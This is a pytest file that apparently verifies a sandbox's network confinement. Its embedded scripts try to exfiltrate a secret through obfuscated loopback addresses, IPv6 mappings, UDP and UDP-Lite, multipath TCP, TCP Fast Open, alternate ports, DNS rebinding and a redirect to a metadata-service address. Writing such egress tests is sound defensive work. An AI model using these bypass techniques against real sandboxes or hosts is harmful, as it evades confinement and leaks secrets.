"""A secret cannot leave to an address, whatever the protocol and the port, nor to where a name is moved."""

from __future__ import annotations

import socket

import pytest

from support.net_alone import MOVED, moved_alone, why_not_alone
from support.net_leaks import SECRET, hints, leak
from support.net_reach import own_address
from support.net_runs import ALLOWED, GRANTS, ROUTED, on_every_backend
from support.net_servers import FastOpenSink, TalkativeSink, TcpSink, UdpSink

TYPE_CHECKING = False
if TYPE_CHECKING:
    from support.net_runs import Place

_SEND = """
def send(family, protocol, where, flags=0):
    target = there(*where)
    if ":" not in target[0]:
        family = socket.AF_INET
    with socket.socket(family, socket.SOCK_STREAM, protocol) as stream:
        # Time-outs of the kernel's: with Python's own it would be another way of connecting.
        for side in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
            stream.setsockopt(socket.SOL_SOCKET, side, struct.pack("ll", 3, 0))
        if flags:
            stream.sendto(SECRET.encode(), flags, target)
        else:
            stream.connect(target)
            stream.sendall(SECRET.encode())
        stream.shutdown(socket.SHUT_WR)
        return stream.recv(100)
"""


@on_every_backend
def test_by_an_address(place: Place) -> None:
    """Of the host, straight, in the forms that programs understand."""
    script = f"""{_SEND}
for host in ["127.0.0.1", "127.1", "0x7f.1", "2130706433", "0177.0.0.1", "0.0.0.0", own]:
    attempt(lambda: send(socket.AF_INET, 0, [host, port]))
    attempt(lambda: dial(host, port).sendall(SECRET.encode()))
"""
    with TcpSink("0.0.0.0") as sink:
        leak(place, script, sink, port=sink.port, own=own_address())


@on_every_backend
@pytest.mark.parametrize("port", [80, 443])
def test_by_an_address_at_a_permitted_port(place: Place, port: int) -> None:
    """Only the name is permitted. The addresses are those for documentation, which nobody has."""
    script = f"""{_SEND}
for host in ("192.0.2.7", "2001:db8::7"):
    attempt(lambda: send(socket.AF_INET6 if ":" in host else socket.AF_INET, 0, [host, port]))
    attempt(lambda: dial(host, port).sendall(SECRET.encode()))
"""
    with TcpSink() as sink:
        for address in ("192.0.2.7", "2001:db8::7"):
            place.site.names.lead(address, port, sink.where)
        result = leak(place, script, sink, port=port)

    if place.backend in ROUTED:
        scheme = "http" if port == 80 else "https"
        assert {f"network:{scheme}:192.0.2.7", f"network:{scheme}:[2001:db8::7]"} <= hints(result)


@on_every_backend
def test_by_an_address_of_ipv6(place: Place) -> None:
    script = f"""{_SEND}
attempt(lambda: send(socket.AF_INET6, 0, ["::1", port]))
attempt(lambda: dial("::1", port).sendall(SECRET.encode()))
"""
    with TcpSink("::1") as sink:
        leak(place, script, sink, port=sink.port)


@on_every_backend
def test_by_an_ipv4_address_in_the_form_of_ipv6(place: Place) -> None:
    script = f"""{_SEND}
for host in ["::ffff:127.0.0.1", "::ffff:7f00:1"]:
    attempt(lambda: send(socket.AF_INET6, 0, [host, port]))
    attempt(lambda: dial(host, port).sendall(SECRET.encode()))
"""
    with TcpSink() as sink:
        leak(place, script, sink, port=sink.port)


@on_every_backend
@pytest.mark.parametrize("address", ["127.0.0.1", "::1"])
def test_by_udp(place: Place, address: str) -> None:
    """Connected and not, with one packet and with several in one call."""
    script = """
family = socket.AF_INET6 if ":" in where[0] else socket.AF_INET
def packet():
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        return sender.sendto(SECRET.encode(), tuple(where))
def connected():
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        sender.connect(tuple(where))
        return sender.send(SECRET.encode())
def message():
    with socket.socket(family, socket.SOCK_DGRAM) as sender:
        return sender.sendmsg([SECRET.encode()], [], 0, tuple(where))
for action in (packet, connected, message):
    attempt(action)
"""
    with UdpSink(address) as sink:
        leak(place, script, sink, where=sink.where)


@on_every_backend
@pytest.mark.parametrize("port", [443, 53, 123])
def test_by_udp_to_a_permitted_name(place: Place, port: int) -> None:
    """As HTTP/3 does: only TCP is permitted, and the name leads to a server that would listen."""
    script = """
def packet():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        where = LEADS.get("api.example.test:%d" % port) or ("api.example.test", port)
        return sender.sendto(SECRET.encode(), tuple(where))
attempt(packet)
"""
    with UdpSink() as sink:
        place.site.names.lead(ALLOWED, port, sink.where)
        leak(place, script, sink, port=port)


@on_every_backend
def test_by_udp_lite(place: Place) -> None:
    """The same packets under another number (RFC 3828), that a filter of UDP may not know."""
    lite = 136
    try:
        listening = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, lite)
    except OSError as problem:
        pytest.skip(f"this kernel has no UDP-Lite: {problem}")
    with listening:
        listening.bind(("127.0.0.1", 0))
        listening.setblocking(False)
        where = listening.getsockname()
        script = """
def packet():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136) as sender:
        return sender.sendto(SECRET.encode(), tuple(where))
attempt(packet)
"""
        leak(place, script, _Heard(listening), where=where)


class _Heard:
    """A socket as a receiver. What was sent on loopback is there at once."""

    def __init__(self, listening: socket.socket) -> None:
        self._socket = listening
        self.received: list[bytes] = []

    def has(self, secret: str) -> bool:
        try:
            while True:
                self.received.append(self._socket.recv(4096))
        except BlockingIOError:
            return any(secret.encode() in data for data in self.received)

    def forget(self) -> None:
        self.received.clear()


@on_every_backend
def test_by_multipath_tcp(place: Place) -> None:
    """A protocol of its own, by which rules of Landlock about TCP can be evaded (landlock-lsm/linux 54)."""
    script = f"{_SEND}\nattempt(lambda: send(socket.AF_INET, 262, where))"
    with TcpSink() as sink:
        leak(place, script, sink, where=sink.where)


@on_every_backend
def test_by_tcp_fast_open(place: Place) -> None:
    """Data and no `connect` (landlock-lsm/linux 41)."""
    script = f"{_SEND}\nattempt(lambda: send(socket.AF_INET, 0, where, socket.MSG_FASTOPEN))"
    with FastOpenSink() as sink:
        leak(place, script, sink, where=sink.where)


@on_every_backend
def test_by_another_port(place: Place) -> None:
    """Of the permitted name, and of the permitted address."""
    script = """
for name in ("api.example.test", "127.0.0.1"):
    for other in (8443, 22, port):
        def send():
            with dial(name, other) as stream:
                get(stream, name, "/" + SECRET)
                return listen(stream)
        attempt(send)
"""
    with TalkativeSink() as sink:
        for port in (8443, 22, sink.port):
            place.site.names.lead(ALLOWED, port, sink.where)
        leak(place, script, sink, port=sink.port)


@on_every_backend
@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "::ffff:127.0.0.1", "own"])
def test_by_a_name_that_is_moved_into_the_host(place: Place, address: str) -> None:
    """Rebinding: whoever owns a permitted name cannot lead a command to the host."""
    where = own_address() if address == "own" else address
    moved = "moved.example.test"
    script = """
def send():
    with dial("moved.example.test", 80) as stream:
        get(stream, "moved.example.test", "/" + SECRET)
        return listen(stream)
attempt(send)
"""
    grants = (*GRANTS, f"network:http:{moved}")
    if address.endswith("127.0.0.1"):  # the others are granted that address for their own sake: not this port
        grants = (f"network:tcp:{moved}:8080", *GRANTS)
        script = script.replace("80)", "8080)")
    with TalkativeSink("::" if ":" in where else "0.0.0.0") as sink:
        place.site.names.lead(moved, 8080 if "8080" in script else 80, (where, sink.port))

        result = leak(place, script, sink, grants=grants)

    assert moved in place.site.names.asked  # it was asked for, and the answer not believed
    assert any(moved in found.subject for found in result.violations), result.violations


@on_every_backend
def test_by_the_second_address_of_a_name(place: Place) -> None:
    """There are several, and none of them may be dialled: not one after the other either."""
    moved = "moved.example.test"
    script = """
def send():
    with dial("moved.example.test", 8080) as stream:
        get(stream, "moved.example.test", "/" + SECRET)
        return listen(stream)
attempt(send)
"""
    with TalkativeSink() as sink:
        place.site.names.lead(moved, 8080, sink.where, ("169.254.169.254", 80), sink.where)

        leak(place, script, sink, grants=(*GRANTS, f"network:tcp:{moved}:8080"))


@pytest.mark.parametrize("grant", [f"network:http:{ALLOWED},network:http:*.example.test", "network:http:*"])
@pytest.mark.parametrize("name", ["native", "bubblewrap", "landlock"])
def test_by_a_name_that_is_moved_into_other_networks(name: str, grant: str) -> None:
    """In a network of one's own, where all those addresses are: of metadata services, of private networks."""
    reason = why_not_alone(name)
    if reason:
        pytest.skip(reason)

    alone = moved_alone(name, *grant.split(","))

    missed = [where for where in (*MOVED, *MOVED.values()) if f"/{SECRET}/{where}" not in alone.control]
    assert missed == [], f"the control leaks nothing: {alone}"
    assert alone.output.startswith("alive"), f"the sandbox has no network at all: {alone}"
    assert alone.confined == ["/alive"]
